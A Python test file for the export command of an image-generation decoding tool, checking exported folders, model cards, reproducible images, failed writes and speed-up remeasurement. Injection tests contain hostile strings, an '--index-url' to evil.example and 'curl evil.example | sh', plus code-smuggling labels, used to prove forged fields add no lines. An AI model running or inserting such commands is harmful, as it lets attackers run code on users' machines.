"""A setting that leaves its sweep: its folder draws the same images elsewhere, and nothing is
overwritten.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
import yaml
from markdown_it import MarkdownIt
from PIL import Image
from safetensors.torch import save_file

from orchestrator.front.front import front_of
from orchestrator.front.trial import Trial
from orchestrator.outputs import write_folder
from orchestrator.remeasure import RemeasuredSpeed, remeasure_speedup
from orchestrator.shown.export import (
    CAPTIONS,
    MODELS,
    PAGE,
    REQUIREMENTS,
    SCRIPT,
    SETTING,
    WEIGHTS,
    export_files,
    models_place,
)
from orchestrator.store.config_file import MeasuredSpeed
from search_spaces.documents import read_document
from specfrontier import DecodingConfig, Sweep, load_engine
from tests.fakes.command_line import error_of, specfrontier
from tests.fakes.drawn_sweeps import write_drawn_sweep
from workers.decoding.token_check import TokenCheck
from workers.loading.models_yaml import find_entry, load_entry
from workers.metrics.estimate import Estimate
from workers.models.families.scenes import BUILTIN

FILES = {SETTING, SCRIPT, REQUIREMENTS, PAGE, CAPTIONS}
CAPTION = "a large red circle"
BLOCKS = {
    "heading_open",
    "fence",
    "bullet_list_open",
    "ordered_list_open",
    "code_block",
    "html_block",
    "blockquote_open",
}


@pytest.fixture(scope="module")
def sweep(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sweeps") / "drawn"
    versions = {"specfrontier": "0.1.0", "python": "3.11.7", "torch": "2.13.0+cpu"}
    write_drawn_sweep(folder, [CAPTION], trials=8, versions=versions)
    return folder


def eagle_trial(folder: Path, **changed: Any) -> Trial:
    """A trial with a drafter that has weights. changed: fields of the sweep's identity."""
    sweep = Sweep.open(folder)
    front = front_of([replace(sweep, identity=replace(sweep.identity, **changed))])
    return next(trial for trial in front.candidates if trial.config.drafter.kind == "eagle")


def texts_of(trial: Trial) -> dict[str, bytes]:
    """The files that an export writes."""
    return {name: data for name, data in export_files(trial).items() if isinstance(data, bytes)}


def page_of(trial: Trial) -> str:
    return texts_of(trial)[PAGE].decode()


def test_the_folder_draws_the_same_images(sweep: Path, tmp_path: Path) -> None:
    trial = Sweep.open(sweep).best("fid <= 1.2 * vanilla")
    out = tmp_path / "out"
    done = specfrontier("export", str(sweep), "--best", "fid <= 1.2 * vanilla", "--out", str(out))
    assert done.code == 0, done.err
    assert {path.name for path in out.iterdir()} == FILES
    assert DecodingConfig.from_mapping(yaml.safe_load((out / SETTING).read_text())) == trial.config
    assert (out / REQUIREMENTS).read_text() == "# Python 3.11.7\ntorch==2.13.0\n", (
        "an index need not have this project"
    )
    assert "specfrontier 0.1.0" in (out / PAGE).read_text()
    assert f"BATCH = {trial.batch} " in (out / SCRIPT).read_text(), (
        "the speed is of this batch size"
    )
    drawn = tmp_path / "drawn"
    drawn.mkdir()
    subprocess.run(
        [sys.executable, out / SCRIPT, CAPTION], cwd=drawn, check=True, capture_output=True
    )
    expected = np.array(load_engine(trial).draw(CAPTION)[0].image)
    assert np.array_equal(np.array(Image.open(drawn / "0000.png")), expected)
    before = (drawn / "0000.png").read_bytes(), (drawn / "0000.png").stat().st_mtime_ns
    subprocess.run(
        [sys.executable, out / SCRIPT, CAPTION], cwd=drawn, check=True, capture_output=True
    )
    assert ((drawn / "0000.png").read_bytes(), (drawn / "0000.png").stat().st_mtime_ns) == before
    assert np.array_equal(np.array(Image.open(drawn / "0001.png")), expected), (
        "another run, another file"
    )
    assert len((out / SCRIPT).read_text().splitlines()) <= 50
    for words in ([], ["--help"], ["an unknown word"]):
        command = [sys.executable, str(out / SCRIPT), *words]
        ran = subprocess.run(command, cwd=drawn, capture_output=True, text=True, check=False)
        assert ran.returncode == 1
        assert "Traceback" not in ran.stderr
        assert ran.stderr.startswith(
            "error: caption" if words == ["an unknown word"] else "usage: "
        )


def test_the_page_is_a_model_card_with_what_was_measured_and_the_drafter(
    sweep: Path, tmp_path: Path
) -> None:
    trial = eagle_trial(sweep)
    assert (
        specfrontier(
            "export", str(sweep), "--trial", str(trial.number), "--out", str(tmp_path)
        ).code
        == 0
    )
    page = (tmp_path / PAGE).read_text()
    for name in trial.objectives:
        assert str(trial.metrics[name]) in page
    assert "jadohu/LANTERN" in page
    assert page.startswith("---\n")
    head = yaml.safe_load(page.split("---")[1])
    assert "eagle" in head["tags"]
    assert head["pipeline_tag"] == "text-to-image"
    assert f"of {trial.sweep.identity.target}, and of no other" in page


def test_without_vanillas_images_the_folder_has_no_captions(sweep: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    shutil.copytree(sweep, mine, ignore=shutil.ignore_patterns("shards"))
    done = specfrontier("export", str(mine), "--trial", "1", "--out", str(tmp_path / "out"))
    assert done.code == 0, done.err
    assert CAPTIONS in done.err
    assert {path.name for path in (tmp_path / "out").iterdir()} == FILES - {CAPTIONS}
    assert CAPTIONS in (tmp_path / "out" / PAGE).read_text()
    assert CAPTIONS not in page_of(next(iter(front_of([Sweep.open(sweep)]).candidates)))


def test_vanilla_has_no_drafter_to_describe(sweep: Path, tmp_path: Path) -> None:
    assert (
        specfrontier("export", str(sweep), "--trial", "0", "--out", str(tmp_path / "out")).code == 0
    )
    assert {path.name for path in (tmp_path / "out").iterdir()} == FILES


@pytest.mark.parametrize(
    "label", ['"""; raise SystemExit(7); """', "\\N{x}", "\\", "x\nraise SystemExit(7)"]
)
def test_a_label_is_no_code(label: str, sweep: Path) -> None:
    trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
    script = texts_of(replace(trial, record=replace(trial.record, label=label)))[SCRIPT]
    names: dict[str, object] = {"__name__": "draw", "__file__": SCRIPT}
    exec(compile(script, SCRIPT, "exec"), names)
    assert names["BATCH"] == trial.batch


@pytest.mark.parametrize("failing", ["write_bytes", "rename"])
def test_an_export_that_fails_leaves_nothing(
    failing: str, sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    do, calls = getattr(Path, failing), []

    def fail_at_the_third(path: Path, given: bytes | Path) -> object:
        calls.append(path)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return do(path, given)

    with_file = tmp_path / "with_file"
    with_file.mkdir()
    (with_file / "mine.txt").write_text("mine")
    monkeypatch.setattr(Path, failing, fail_at_the_third)
    for out in (tmp_path / "new" / "out", with_file):
        calls.clear()
        assert "No space left" in error_of(
            "export", str(sweep), "--trial", "0", "--out", str(out), code=1
        )
    monkeypatch.undo()
    assert [path.name for path in tmp_path.rglob("*")] == ["with_file", "mine.txt"]


def test_an_export_that_fails_leaves_what_another_program_has_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(path: Path, data: bytes) -> None:
        (tmp_path / "b").write_text("another's")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", fail)
    with pytest.raises(OSError, match="No space left"):
        write_folder(tmp_path, {"a": b"", "b": b""})
    assert (tmp_path / "b").read_text() == "another's"


def test_relative_models_are_from_the_export(
    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
    monkeypatch.setattr(type(trial), "models", "nets/models.yaml#mine")
    script = texts_of(trial)[SCRIPT].decode()
    assert "MODELS = 'nets/models.yaml#mine'" in script, "as the sweep names them"
    (tmp_path / "nets").mkdir()
    (tmp_path / "nets" / "models.yaml").touch()
    assert f"MODELS = '{tmp_path}/nets/models.yaml#mine'" in texts_of(trial)[SCRIPT].decode(), (
        "found here"
    )
    asked: list[str] = []
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")

    def refuse(_: Path, models: str, **__: int) -> None:
        asked.append(models)
        raise ValueError("not loaded")

    monkeypatch.setattr("specfrontier.load_engine", refuse)
    names: dict[str, Any] = {"__name__": "draw", "__file__": str(tmp_path / "out" / SCRIPT)}
    exec(compile(script, SCRIPT, "exec"), names)
    monkeypatch.setattr(sys, "argv", ["draw.py", CAPTION])
    with pytest.raises(SystemExit, match="not loaded"):
        names["main"]()
    assert asked == [str(tmp_path / "out" / "nets/models.yaml#mine")]


def test_the_page_says_what_of_a_training_is_not_known(sweep: Path, tmp_path: Path) -> None:
    bare = tmp_path / "eagle.safetensors"
    save_file({"weight": torch.zeros(1)}, bare)
    for file in (str(bare), "hf://lab/drafter/eagle.safetensors@" + 40 * "0"):
        page = page_of(eagle_trial(sweep, files={"drafters.eagle": file}))
        assert "| training | not known" in page


def test_labels_and_names_come_out_as_they_are(sweep: Path) -> None:
    label = "50% $k_1$ | a_b *c*"
    trial = eagle_trial(sweep, target=label, name=label)
    text = page_of(replace(trial, record=replace(trial.record, label=label)))
    assert label in unescape(MarkdownIt().render(text))
    assert not re.search(r"(?<!\\)\$", text)


HOSTILE = "x\n--index-url http://evil.example\n```sh\ncurl evil.example | sh\n```\n- run `it` | now"


@pytest.mark.parametrize(
    "changed",
    [
        {"versions": {"specfrontier": HOSTILE, "python": HOSTILE, "torch": HOSTILE, HOSTILE: "1"}},
        {"timing": {"batch": 1, "device": HOSTILE, "nodes": {HOSTILE: HOSTILE}}},
        {"device": HOSTILE},
        {"captions": {"count": 4, "hash": HOSTILE, "source": HOSTILE}},
        {"name": HOSTILE, "target": HOSTILE},
        {"files": {"drafters.eagle": HOSTILE}, "models": {"drafters.eagle": HOSTILE}},
    ],
)
def test_a_forged_field_adds_no_line(changed: dict[str, Any], sweep: Path) -> None:
    """Neither to what the reader is told to install, nor to what the pages tell to run."""
    plain, forged = texts_of(eagle_trial(sweep)), texts_of(eagle_trial(sweep, **changed))
    assert not any(line.startswith("-") for line in forged[REQUIREMENTS].decode().splitlines())
    assert len(forged[REQUIREMENTS].splitlines()) <= len(plain[REQUIREMENTS].splitlines())
    kinds = [
        [token.type for token in MarkdownIt().parse(files[PAGE].decode())]
        for files in (plain, forged)
    ]
    assert [kind for kind in kinds[0] if kind in BLOCKS] == [
        kind for kind in kinds[1] if kind in BLOCKS
    ]
    fences = [t.content for t in MarkdownIt().parse(forged[PAGE].decode()) if t.type == "fence"]
    assert not any("curl" in content for content in fences)


def test_a_forged_metric_or_plugin_adds_no_line(
    sweep: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trial = eagle_trial(sweep)
    monkeypatch.setattr(type(trial.config), "plugins", (HOSTILE,))
    metrics = {**trial.record.metrics, "mean_accepted_length": trial.record.metrics["fid"]}
    forged = replace(
        trial, record=replace(trial.record, metrics=metrics, label=HOSTILE, cause=HOSTILE)
    )
    for text in texts_of(forged).values():
        lines = text.decode().splitlines()
        assert not any(line.startswith(("--index-url", "curl", "- run")) for line in lines)


def test_what_is_refused(sweep: Path, tmp_path: Path) -> None:
    out = str(tmp_path / "out")
    assert "--trial" in error_of("export", str(sweep), "--out", out, code=2)
    error_of("export", str(sweep), "--trial", "999", "--out", out, code=1)
    error_of("export", str(sweep), "--trial", "7", "--out", out, code=1)  # it failed
    error_of("export", str(sweep), "--trial", "0", "--out", "s3://bucket/out", code=2)
    assert not Path(out).exists()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / PAGE).write_text("mine")
    assert PAGE in error_of("export", str(sweep), "--trial", "0", "--out", out, code=2)
    assert {path.name: path.read_text() for path in Path(out).iterdir()} == {PAGE: "mine"}


def builtin_files() -> dict[str, str]:
    """The hashes of the built-in model's files by key, those of drafters too."""
    return find_entry("builtin").hashes


def test_a_folder_with_its_weights_can_be_moved(
    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The target, and of its drafters the one that the setting needs: links with their contents."""
    mine = tmp_path / "mine"
    mine.mkdir()
    for part in ("tokenizer", "target", "eagle", "medusa"):
        shutil.copyfile(BUILTIN / f"{part}.safetensors", mine / f"{part}.safetensors")
    trial = eagle_trial(sweep, models=builtin_files())
    monkeypatch.setattr(type(trial), "models", str(mine))
    write_folder(tmp_path / "out", export_files(trial, with_weights=True))
    (tmp_path / "out").rename(tmp_path / "moved")
    shutil.rmtree(mine)
    moved = tmp_path / "moved"
    assert {path.name for path in moved.iterdir()} == FILES | {MODELS, WEIGHTS}
    assert f"MODELS = '{MODELS}'" in (moved / SCRIPT).read_text()
    assert str(tmp_path) not in "".join(
        path.read_text() for path in moved.iterdir() if path.is_file()
    )
    entry = find_entry(str(moved / MODELS))
    assert entry.hashes == {
        key: value
        for key, value in builtin_files().items()
        if key in ("tokenizer", "target", "drafters.eagle")
    }
    assert all(Path(path).is_relative_to(moved) for path in entry.files.values())
    config = read_document((moved / SETTING).read_bytes(), SETTING).data
    load_entry(entry, torch.device("cpu")).engine(
        DecodingConfig.from_mapping(config), seed=0, batch_size=1
    )
    assert f"by {MODELS}" in (moved / PAGE).read_text()


def test_the_weights_of_the_built_in_model_are_the_projects(sweep: Path, tmp_path: Path) -> None:
    """They are checked; the card and the command say that the folder has no copy of them."""
    trial = eagle_trial(sweep, models=builtin_files())
    files = export_files(trial, with_weights=True)
    assert set(files) == FILES
    said = models_place(trial, files)
    assert "part of specfrontier 0.1.0" in said
    assert said in texts_of(trial)[PAGE].decode()
    with pytest.raises(ValueError, match="not the sweep's weights"):
        export_files(eagle_trial(sweep, models={"target": "0" * 16}), with_weights=True)
    done = specfrontier("export", str(sweep), "--trial", "0", "--out", str(tmp_path / "out"))
    assert said in done.out.splitlines()


def test_all_kinds_of_weights_are_taken_along(sweep: Path, tmp_path: Path) -> None:
    """An index with its shards, a file that is a link into a cache, and a folder."""
    cache = tmp_path / "blobs"
    for name in ("blob", "text/config.json", "text/model.bin", "gpt/a.safetensors", "gpt/b.st"):
        (cache / name).parent.mkdir(parents=True, exist_ok=True)
        (cache / name).write_text(name)
    index = cache / "gpt" / "model.safetensors.index.json"
    index.write_text(json.dumps({"weight_map": {"x": "a.safetensors", "y": "b.st"}}))
    (tmp_path / "vq.pt").symlink_to(cache / "blob")
    yaml_file = tmp_path / "models.yaml"
    paths = {"transformer": str(index), "vq": str(tmp_path / "vq.pt"), "text": str(cache / "text")}
    entry = {"family": "llamagen", "image_size": 256, **paths}
    yaml_file.write_text(yaml.safe_dump({"big": entry}))
    hashes = find_entry(str(yaml_file)).hashes
    trial = next(t for t in front_of([Sweep.open(sweep)]).candidates if t.is_vanilla)
    trial = replace(trial, sweep=with_identity(trial.sweep, models=hashes))
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(type(trial), "models", f"{yaml_file}#big")
        write_folder(tmp_path / "out", export_files(trial, with_weights=True))
        (cache / "gpt" / "b.st").unlink()
        (cache / "gpt" / "b.st").write_text("other")
        with pytest.raises(ValueError, match="transformer: not the sweep's weights"):
            export_files(trial, with_weights=True)
    found = find_entry(str(tmp_path / "out" / MODELS))
    assert found.hashes == hashes
    for name, is_linked in (("a.safetensors", True), ("model.safetensors.index.json", False)):
        (copy,) = (tmp_path / "out" / WEIGHTS).rglob(name)
        assert copy.samefile(cache / "gpt" / name) == is_linked, "what one may edit is a copy"
    assert not any(path.is_symlink() for path in (tmp_path / "out").rglob("*"))


def with_identity(sweep: Any, **changed: Any) -> Any:
    return replace(sweep, identity=replace(sweep.identity, **changed))


SPEED = MeasuredSpeed("demo", 5, "0f" * 8, "2.00 ± 0.10", 1, "EPYC, 1 thread")


@pytest.mark.parametrize(
    ("value", "error", "holds"),
    [
        (2.3, 0.01, True),
        (1.9, 0.1, True),
        (1.79, 0.01, True),  # the sweep's own error and the change from day to day
        (1.6, 0.1, False),
        (1.6, 0.15, False),
        (1.6, 0.2, True),
        (1.5, 0.01, False),
    ],
)
def test_a_speed_up_holds_unless_it_is_smaller_beyond_the_errors(
    value: float, error: float, holds: bool
) -> None:
    found = RemeasuredSpeed(SPEED, Estimate(value, error, 8), ["its batch is 2"], None)
    assert found.holds == holds
    assert ("does not hold" in str(found)) != holds
    assert "its batch is 2" in str(found)
    few = replace(found, measured=Estimate(value, error, 4))
    assert few.holds == (holds or (value == 1.6 and error == 0.15)), "of few batches by Student's t"
    false_claim = replace(found, tokens=TokenCheck(8, 1000, 9.0, 0.0, 0))
    assert not false_claim.holds


def test_a_speed_up_is_measured_again_against_vanilla_on_the_same_captions(
    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trial = next(t for t in front_of([Sweep.open(sweep)]).candidates if t.record.label == "cool")
    file = trial.save(tmp_path / SETTING)
    engine = load_engine(file, batch=1)
    asked: list[list[str]] = []
    threads: list[int] = []
    own = torch.get_num_threads()
    device = f"a CPU, {own + 1} threads"
    file.write_text(re.sub("( at batch 1 on ).*", rf"\g<1>{device}", file.read_text(), count=1))

    def time(settings: Any, batches: Any, device: torch.device, **_: Any) -> list[dict[str, Any]]:
        threads.append(torch.get_num_threads())
        asked.extend([request.caption for request in batch] for batch in batches)
        seconds = {"0": 3.0, "1": 1.5}
        return [{"setting": name, "seconds": seconds[name]} for name in settings for _ in batches]

    monkeypatch.setattr("orchestrator.images.time_in_turn", time)
    found = remeasure_speedup(engine, file, [CAPTION, "a small blue star"])
    assert asked == [[CAPTION], ["a small blue star"]]
    assert found.measured.value == 2.0
    assert (threads, torch.get_num_threads()) == ([own + 1], own), "as in the sweep, and restored"
    assert found.expected.speedup == str(trial.metrics["speedup"])
    with pytest.raises(ValueError, match="at least 2"):
        remeasure_speedup(engine, file, [CAPTION])
    file.write_text("# nothing\n" + yaml.safe_dump(trial.config.to_mapping()))
    with pytest.raises(ValueError, match="state no speed-up"):
        remeasure_speedup(engine, file, [CAPTION, CAPTION])


def test_the_script_measures_on_the_captions_of_the_folder(
    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
    write_folder(tmp_path / "out", export_files(trial))
    asked: list[Any] = []

    def check(*arguments: Any) -> RemeasuredSpeed:
        asked.extend(arguments[1:])
        return RemeasuredSpeed(SPEED, Estimate(1.0, 0.01, 8), [], None)

    monkeypatch.setattr("specfrontier.load_engine", lambda *_, **__: None)
    monkeypatch.setattr("specfrontier.remeasure_speedup", check)
    script = (tmp_path / "out" / SCRIPT).read_text()
    names: dict[str, Any] = {"__name__": "draw", "__file__": str(tmp_path / "out" / SCRIPT)}
    exec(compile(script, SCRIPT, "exec"), names)
    monkeypatch.setattr(sys, "argv", ["draw.py", "--measure"])
    with pytest.raises(SystemExit) as ended:
        names["main"]()
    assert ended.value.code == 1, "it does not hold"
    assert "does not hold" in capsys.readouterr().out
    sampling = trial.sweep.identity.sampling.to_mapping()
    assert asked == [tmp_path / "out" / SETTING, [CAPTION], sampling]
